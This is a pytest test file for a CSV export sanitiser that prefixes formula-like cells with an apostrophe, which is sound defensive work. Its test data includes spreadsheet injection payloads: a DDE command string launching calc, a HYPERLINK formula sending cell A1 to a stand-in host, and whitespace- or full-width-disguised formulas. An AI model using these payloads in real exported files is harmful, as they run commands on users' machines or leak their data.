"""CSV cells that a spreadsheet would execute get an apostrophe; all others stay as they are."""

import csv
import io

import pytest

from partners.spreadsheet import BYTE_ORDER_MARK, csv_lines, harmless, without_guard

# A valid e-mail address, formulas, and signs that are wide or follow a space of some kind.
EXECUTED = ["=cmd@x.co", '=HYPERLINK("https://x.example?"&A1,"Click")', "=cmd|' /C calc'!A0"]
EXECUTED += ["+919876543210-1", "+9 1", "++91", "+", "-91", "＋91", "+९१", "@SUM(A1:A9)", "-"]
EXECUTED += ["\t=1", " =1+1", "\u00a0=1", "\u3000=1", "\ufeff=1", "＝1+1", "\u3000＝1"]
HARMLESS = ["+919876543210", "", "Asha Rao", "asha=rao@example.com", "1-2", "'=1", '"=1"', "a\nb"]
HARMLESS += ["O'Brien; =1"]
CELLS = {**{text: f"'{text}" for text in EXECUTED}, **{text: text for text in HARMLESS}}


@pytest.mark.parametrize(("text", "cell"), CELLS.items())
def test_a_text_that_would_be_executed_gets_an_apostrophe(text, cell):
    assert harmless(text) == cell

    # A reader finds the cells again.
    file = "".join(csv_lines(["a", "b"], [[text, "end"]]))
    found = csv.reader(io.StringIO(file.removeprefix(BYTE_ORDER_MARK), newline=""))
    assert list(found) == [["a", "b"], [cell, "end"]]


@pytest.mark.parametrize("value", [0, -1, -0.5, None, 3.25])
def test_a_number_of_ours_stays_one(value):
    assert harmless(value) is value


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        *(("'=1+1", "=1+1"), ("'+919876543210", "+919876543210"), ("+91", "+91")),
        *((each, each) for each in ("O'Brien", "'tis", "'", "''=1")),
    ],
)
def test_an_apostrophe_is_taken_off_what_would_be_executed_and_off_a_number(cell, text):
    assert without_guard(cell) == text
